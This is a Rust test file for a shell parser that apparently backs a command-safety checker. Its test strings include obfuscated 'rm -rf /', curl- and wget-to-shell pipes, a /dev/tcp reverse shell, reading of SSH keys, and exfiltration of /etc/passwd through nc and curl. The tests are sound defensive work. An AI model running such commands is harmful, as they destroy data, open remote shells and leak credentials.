//! The walker's own tests: what units a shell string gives, and the state it follows.

use super::guard::MAX_BACKTRACKING_DEPTH;
use super::*;
use crate::engine::scope::Scope;

fn start() -> Start<'static> {
    Start {
        home: b"",
        scope: Scope::at(Some(PathWord::plain(b"/home/dev/project"))),
    }
}

fn text(words: &[Cow<'_, [u8]>]) -> Vec<String> {
    words
        .iter()
        .map(|w| String::from_utf8_lossy(w).into_owned())
        .collect()
}

fn argvs(input: &str) -> Vec<Vec<String>> {
    parse(input.as_bytes(), 0, start())
        .unwrap()
        .iter()
        .map(|u| text(&u.argv))
        .collect()
}

#[test]
fn quotes_escapes_and_expansions_are_resolved() {
    assert_eq!(argvs("'r'm -rf /"), [["rm", "-rf", "/"]]);
    assert_eq!(argvs(r"r\m -rf /"), [["rm", "-rf", "/"]]);
    assert_eq!(argvs(r"$'\x72\155' x"), [["rm", "x"]]);
    assert_eq!(argvs("{rm,-rf,/}"), [["rm", "-rf", "/"]]);
    assert_eq!(argvs("rm${IFS}-rf${IFS}/"), [["rm", "-rf", "/"]]);
    assert_eq!(
        argvs("rm \"$HOME\" ${HOME}/x ~/"),
        [["rm", "$HOME", "$HOME/x", "~/"]]
    );
}

#[test]
fn every_simple_command_is_found() {
    assert_eq!(
        argvs("a 1 && b || (c; { d; }) | e & f $(g `h`)"),
        [
            vec!["a", "1"],
            vec!["b"],
            vec!["c"],
            vec!["d"],
            vec!["e"],
            vec!["f", "$(g `h`)"],
            vec!["g", "`h`"],
            vec!["h"]
        ]
    );
    assert_eq!(
        argvs("for x in $(ls); do rm $x; done"),
        [vec!["ls"], vec!["rm", "$x"]]
    );
}

#[test]
fn pipelines_substitutions_and_redirections_are_recorded() {
    let units = parse(b"curl x | sudo tee f | sh", 0, start()).unwrap();
    assert_eq!(text(&units[2].fed_by), ["curl", "sudo", "tee"]);
    let units = parse(b"bash <(wget -O- x)", 0, start()).unwrap();
    assert_eq!(text(&units[0].fed_by), ["wget"]);
    let units = parse(b"bash -i >& /dev/tcp/1.2.3.4/1 0>&1 < in.txt", 0, start()).unwrap();
    assert_eq!(text(&units[0].redirects), ["/dev/tcp/1.2.3.4/1"]);
    assert_eq!(text(&units[0].inputs), ["in.txt"]);
    let units = parse(b"LD_PRELOAD= A=1 ls; unset B; export C=2", 0, start()).unwrap();
    assert_eq!(text(&units[0].env), ["LD_PRELOAD", "A"]);
    assert_eq!(text(&units[1].env), ["B"]);
    assert_eq!(text(&units[2].env), ["C"]);
    let units = parse(b"echo 'rm -rf /' | sh", 0, start()).unwrap();
    assert_eq!(units[1].stdin_text.as_deref(), Some(&b"rm -rf /"[..]));
    let units = parse(b"sh <<EOF\nrm x\nEOF\n", 0, start()).unwrap();
    assert_eq!(units[0].stdin_text.as_deref(), Some(&b"rm x\n"[..]));
}

#[test]
fn limits_are_errors() {
    assert_eq!(
        parse(&vec![b'a'; MAX_LEN + 1], 0, start()).err(),
        Some(ShellError::TooLong(MAX_LEN + 1))
    );
    assert_eq!(
        parse(b"ls", MAX_DEPTH + 1, start()).err(),
        Some(ShellError::TooDeep)
    );
    let deep = format!(
        "{}x{}",
        "(".repeat(MAX_DEPTH + 1),
        ")".repeat(MAX_DEPTH + 1)
    );
    assert_eq!(
        parse(deep.as_bytes(), 0, start()).err(),
        Some(ShellError::TooDeep)
    );
    assert!(matches!(
        parse(b"echo 'x", 0, start()),
        Err(ShellError::Syntax(_))
    ));
    assert!(matches!(
        parse(b"a << \r ", 0, start()),
        Err(ShellError::Syntax(_))
    ));
    assert!(matches!(
        parse(b"a <<\x0c\t", 0, start()),
        Err(ShellError::Syntax(_))
    ));
    assert!(matches!(
        parse(b"a <<-\t\r\t", 0, start()),
        Err(ShellError::Syntax(_))
    ));
    assert!(parse(b"echo a\r b", 0, start()).is_ok());
    assert!(matches!(
        parse(b"ls 99999999999> f", 0, start()),
        Err(ShellError::Syntax(_))
    ));
    assert!(parse(b"ls 2> f", 0, start()).is_ok());
    let tilde = format!("ls ~+{}", "9".repeat(30));
    assert!(matches!(
        parse(tilde.as_bytes(), 0, start()),
        Err(ShellError::Syntax(_))
    ));
    assert!(parse(b"cd ~+1", 0, start()).is_ok());
    let parens = format!("{} x", "( ".repeat(MAX_BACKTRACKING_DEPTH + 1));
    assert_eq!(
        parse(parens.as_bytes(), 0, start()).err(),
        Some(ShellError::TooDeep)
    );
    let cases = "case x in y) ".repeat(MAX_BACKTRACKING_DEPTH + 1);
    assert_eq!(
        parse(cases.as_bytes(), 0, start()).err(),
        Some(ShellError::TooDeep)
    );
    let ok = format!(
        "{} x {}",
        "( ".repeat(MAX_BACKTRACKING_DEPTH),
        ") ".repeat(MAX_BACKTRACKING_DEPTH)
    );
    assert!(parse(ok.as_bytes(), 0, start()).is_ok());
    let slow = format!("echo {}", "${a[}".repeat(8));
    assert!(matches!(
        parse(slow.as_bytes(), 0, start()),
        Err(ShellError::Syntax(_))
    ));
    assert!(parse(b"echo ${a[0]}${b[1]}${c[@]}", 0, start()).is_ok());
    assert_eq!(
        parse("x;".repeat(MAX_UNITS + 1).as_bytes(), 0, start()).err(),
        Some(ShellError::TooMany)
    );
}

fn cwds_of(input: &str) -> Vec<Vec<String>> {
    parse(input.as_bytes(), 0, start())
        .unwrap()
        .iter()
        .filter(|u| !u.argv.is_empty())
        .map(|u| {
            u.scope
                .as_ref()
                .unwrap()
                .cwds
                .iter()
                .map(|c| String::from_utf8_lossy(&c.text).into_owned())
                .collect()
        })
        .collect()
}

#[test]
fn cd_moves_what_follows_as_the_shell_would() {
    // `cd` itself runs where the shell is.
    assert_eq!(
        cwds_of("cd /tmp && ls"),
        [vec!["/home/dev/project"], vec!["/tmp"]]
    );
    assert_eq!(
        cwds_of("cd /tmp; ls")[1],
        ["/tmp", "/home/dev/project"],
        "cd may fail"
    );
    assert_eq!(cwds_of("cd /tmp || ls")[1], ["/home/dev/project"]);
    assert_eq!(cwds_of("(cd /tmp); ls")[1], ["/home/dev/project"]);
    assert_eq!(cwds_of("cd .. && cd ./x/../y && ls")[2], ["/home/dev/y"]);
    assert_eq!(
        cwds_of("pushd /srv && popd && ls")[2],
        ["/home/dev/project"]
    );
    assert_eq!(cwds_of("cd \"$DIR\" && ls")[1], ["$DIR"]);
    assert_eq!(cwds_of("cd /a && cd /b && cd - && ls")[3], ["/a"]);
    assert_eq!(
        cwds_of("if true; then cd /a; else cd /b; fi; ls")[3],
        ["/a", "/home/dev/project", "/b"],
        "each cd may fail"
    );
    assert_eq!(cwds_of("if true; then cd /a && ls; fi")[2], ["/a"]);
}

#[test]
fn variables_are_substituted_and_split() {
    assert_eq!(
        argvs("x='a b'; echo $x \"$x\" ${x}c")[1],
        ["echo", "a", "b", "a b", "a", "bc"]
    );
    assert_eq!(argvs("e=; ls $e x")[1], ["ls", "x"]);
    assert_eq!(argvs("IFS=:; p=a::b; ls $p")[2], ["ls", "a", "", "b"]);
    assert_eq!(argvs("v=1; v+=2; echo $v")[2], ["echo", "12"]);
    assert_eq!(argvs("v=$(date); echo $v")[2], ["echo", "$v"]);
    assert_eq!(argvs("v=x; read v; echo $v")[2], ["echo", "$v"]);
    assert_eq!(argvs("unset v; echo a${v}b")[1], ["echo", "ab"]);
    assert_eq!(
        argvs("v=abc; echo ${#v} ${v/b/-} ${v^^}")[1],
        ["echo", "3", "a-c", "ABC"]
    );
    assert_eq!(argvs("echo ~/x $HOME")[0], ["echo", "~/x", "$HOME"]);
}

#[test]
fn only_live_wildcards_make_globs() {
    let units = parse(b"v='*.md'; cat *.rs '*.txt' \"$v\" $v", 0, start()).unwrap();
    let cat = &units[1];
    let globbed: Vec<usize> = cat
        .globs
        .iter()
        .map(|(slot, _)| match slot {
            Slot::Arg(i) => *i,
            _ => usize::MAX,
        })
        .collect();
    assert_eq!(globbed, [1, 4]);
    let units = parse(b"cat < ~/.ss?/id_rs?", 0, start()).unwrap();
    assert_eq!(units[0].glob(Slot::Input(0)), Some(&b"~/.ss?/id_rs?"[..]));
}

#[test]
fn written_files_remember_who_wrote_them() {
    let units = parse(
        b"curl -o /tmp/a https://x/a; cp /tmp/a /tmp/b; cat /tmp/b | sh; sh /tmp/b",
        0,
        start(),
    )
    .unwrap();
    let last = units.last().unwrap();
    assert_eq!(text(&last.code_from), ["cp", "curl"]);
}

#[test]
fn home_stays_home_through_parameter_forms() {
    assert_eq!(
        argvs("rm -rf \"${HOME:?}\"/* ${HOME:-/tmp} ${PWD}")[0],
        ["rm", "-rf", "$HOME/*", "$HOME", "$PWD"]
    );
    assert_eq!(argvs("v=/x; echo ${v:?} ${v:=y}")[1], ["echo", "/x", "/x"]);
}

#[test]
fn what_a_command_feeds_is_recorded() {
    let units = parse(b"cat /etc/passwd | gzip | sudo nc x 1", 0, start()).unwrap();
    assert_eq!(text(&units[0].feeds), ["gzip", "nc", "sudo"]);
    assert_eq!(text(&units[1].feeds), ["nc", "sudo"]);
    assert!(units[2].feeds.is_empty());
    let units = parse(
        b"curl -d \"$(cat /etc/passwd)\" x <<< `id`; ls $(pwd)",
        0,
        start(),
    )
    .unwrap();
    let argv0: Vec<_> = units.iter().map(|u| text(&u.argv[..1])).collect();
    assert_eq!(argv0, [["curl"], ["cat"], ["id"], ["ls"], ["pwd"]]);
    assert!(units[0].feeds.is_empty());
    assert_eq!(text(&units[1].feeds), ["curl"]);
    assert_eq!(text(&units[2].feeds), ["curl"]);
    assert_eq!(text(&units[4].feeds), ["ls"]);
}
